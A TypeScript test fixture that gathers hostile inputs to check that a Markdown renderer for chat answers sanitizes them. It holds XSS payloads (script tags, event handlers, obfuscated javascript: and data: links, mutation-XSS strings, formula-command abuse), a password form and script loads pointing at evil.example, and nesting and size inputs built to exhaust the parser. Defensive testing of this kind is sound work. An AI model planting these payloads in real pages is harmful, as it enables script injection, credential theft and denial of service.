// Answers that attack the page. `evil.example` must never be requested, `pwned` never called.

const FENCE = '```';
/** Characters that have no glyph, by their numbers: they would not be seen here. */
const chars = (...codes: number[]) => String.fromCodePoint(...codes);

/** By what each of them tries. */
export const HOSTILE_TEXTS: Record<string, string> = {
  'a script element': '<script>pwned()</script>',
  'a script element in a paragraph': 'Text <script src="https://evil.example/x.js"></script> goes on.',
  'an image that fails': '<img src=x onerror=pwned()>',
  'an image with a broken tag': '<img src="x` `<script>pwned()</script>"` `>',
  'an SVG that loads': '<svg onload=pwned()><use href="https://evil.example/x.svg#a"/></svg>',
  'an SVG animation of a link': '<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>click</text></a></svg>',
  'a frame': '<iframe src="javascript:pwned()" srcdoc="<script>parent.pwned()</script>"></iframe>',
  'an object and an embed': '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  'a form': '<form action="https://evil.example"><input name=password autofocus onfocus=pwned()><button formaction=javascript:pwned()>go</button></form>',
  'a style element': '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">over everything</p>',
  'a base, a meta and a link element': '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
  'handlers on common elements': '<div onclick=pwned()>a</div><details open ontoggle=pwned()>b</details><body onload=pwned()><marquee onstart=pwned()>c</marquee>',
  'HTML that parses twice: noscript': '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  'HTML that parses twice: namespaces': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
  'HTML that parses twice: svg and style': '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
  'a template': '<template><script>pwned()</script></template>',
  'an HTML comment that ends early': '<!--><img src=x onerror=pwned()>-->',
  'CDATA and a processing instruction': '<![CDATA[<script>pwned()</script>]]><?xml-stylesheet href="javascript:pwned()"?>',
  'a link to a script': '[click](javascript:pwned())',
  'a link to a script with entities': '[click](&#106;avascript&colon;pwned()) [click](&#x6A;&#x61;vascript:pwned())',
  'a link to a script with other letters': '[click](JaVaScRiPt:pwned()) [click](java%0Ascript:pwned()) [click](<java\tscript:pwned()>)',
  'a link to a script behind control characters': `[click](${chars(1)}javascript:pwned()) [click](<${chars(0xa0)}javascript:pwned()>) [click](javascript${chars(0x200b)}:pwned())`,
  'a link to VBScript': '[click](vbscript:msgbox(1)) [click](livescript:pwned())',
  'a link to data': '[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+) [click](data:image/svg+xml,<svg onload=pwned()>)',
  'links of other schemes': '[a](file:///etc/passwd) [b](blob:https://evil.example/x) [c](filesystem:x) [d](ftp://evil.example) [e](mailto:a@evil.example) [f](tel:+1) [g](intent://x#Intent;end) [h](ms-msdt:/id)',
  'links that only seem to be of this site': '[a](//evil.example/a) [b](/\\evil.example/b) [c](\\\\evil.example/c) [d](/\t/evil.example/d) [e](https:evil.example)',
  'a link with a name and a password': '[https://book.example.org](https://book.example.org@evil.example/) [x](https://user:secret@evil.example/)',
  'a link whose title breaks out': '[x](https://evil.example/ "\\" onmouseover=pwned() x=\\"") [y](https://evil.example/"onmouseover="pwned())',
  'a link in angle brackets': '<javascript:pwned()> <data:text/html,x> <https://evil.example/"onmouseover="pwned()>',
  'an image': '![x](https://evil.example/x.png) ![y](javascript:pwned()) ![z](data:image/svg+xml,<svg onload=pwned()>)',
  'an image in a link': '[![x](https://evil.example/x.png)](javascript:pwned())',
  'definitions of links': '[text][1] and [1] and [2][1]\n\n[1]: javascript:pwned()\n[2]: https://evil.example/2 "title"',
  'a definition that takes a citation’s number': 'So it is. [1]\n\n[1]: https://evil.example/instead',
  'a definition in a quote and in a list': '> [1]: javascript:pwned()\n\n- [1]: javascript:pwned()\n\n[1]',
  'addresses that are linked by themselves': 'https://evil.example/a www.evil.example a@evil.example javascript:pwned() http://evil.example:99999/',
  'text that changes its direction': `${chars(0x202e)}gpj.exe${chars(0x202c)} ${chars(0x2066)}x${chars(0x2069)} [${chars(0x202e)}gro.elpmaxe.koob](https://evil.example/)`,
  'names of every object’s properties': '[__proto__] [constructor](constructor) [toString][toString] [1][__proto__]\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  'numbers of citations that are none': '[0] [999] [1000] [-1] [1.5] [1e3] [00001] [１]',
  'a code block whose language is markup': `${FENCE}"><img src=x onerror=pwned()>\ncode\n${FENCE}\n\n${FENCE}html\n<script>pwned()</script>\n${FENCE}`,
  'a code block with the options of the site’s own': `${FENCE}jsx live title="<img src=x onerror=pwned()>"\nfunction X() { pwned(); }\n${FENCE}\n\n${FENCE}mermaid\ngraph TD; A["<img src=x onerror=pwned()>"]; click A "javascript:pwned()"\n${FENCE}`,
  'JSX and MDX': '{pwned()} <Foo onClick={pwned()} /> import x from "https://evil.example/x.js"\n\nexport const y = pwned();',
  'front matter and directives': '---\ntitle: x\n---\n\n:::danger[x]\n<script>pwned()</script>\n:::',
  'a formula that links': '$\\href{javascript:pwned()}{x}$ $\\url{javascript:pwned()}$ $$\\href{https://evil.example}{y}$$',
  'a formula that loads an image': '$\\includegraphics[height=1em]{https://evil.example/x.png}$',
  'a formula that writes attributes': '$\\htmlData{x=y}{a} \\htmlClass{bookrag-button}{b} \\htmlId{__docusaurus}{c} \\htmlStyle{position:fixed}{d}$',
  'a formula that grows without end': '$\\def\\a{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d\\d\\d\\d\\d}\\def\\d{xxxxxxxx}\\a\\a\\a\\a$ $\\def\\x{\\x\\x}\\x$',
  'a formula of great size': '$\\rule{9999999em}{9999999em} \\kern{99999em} \\raisebox{99999em}{x}$',
  'a formula that is broken': '$\\frac{1$ $$\\begin{matrix}$$ $\\undefined{x}$ $</math><img src=x onerror=pwned()>$',
  'a formula that escapes into markup': '$\\text{</annotation><img src=x onerror=pwned()>}$ $\\unicode{<script>pwned()</script>}$',
  'a list that starts anywhere': '99999999. a\n\n-5. b\n\n0. c\n\n1e9. d',
  'a heading that names the page’s own elements': '# x {#__docusaurus}\n\n<a id="bookrag" name="location">x</a>',
  'entities': '&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62; &#0; &#x110000; &#xD800; &NotAnEntity;',
  'characters that are none': `${chars(0)}${chars(7)}${chars(0xfffe)}${chars(0xfeff)} a\u2028b\u2029c \ud800 lone`,
};

/** Texts that are made to take long, or to fill the stack. */
export const HEAVY_TEXTS: Record<string, string> = {
  'quotes in quotes': '>'.repeat(10_000) + ' x',
  'lists in lists': Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'brackets that are never closed': '['.repeat(10_000),
  'links that are never closed': '[a]('.repeat(5_000),
  'emphasis in emphasis': '*_'.repeat(5_000) + 'x',
  'backticks of all lengths': Array.from({ length: 300 }, (_, length) => '`'.repeat(length)).join(' '),
  'dollars that are never closed': '$x '.repeat(5_000),
  'tags that are never closed': '<a '.repeat(10_000),
  'a table of 2,000 cells': `|${'a|'.repeat(40)}\n|${'-|'.repeat(40)}\n${`|${'[x](javascript:pwned())|'.repeat(40)}\n`.repeat(50)}`,
  'a word of 100,000 letters': 'x'.repeat(100_000),
};

export const A_MEGABYTE = 'So it is written here, line for line. '.repeat(27_000);
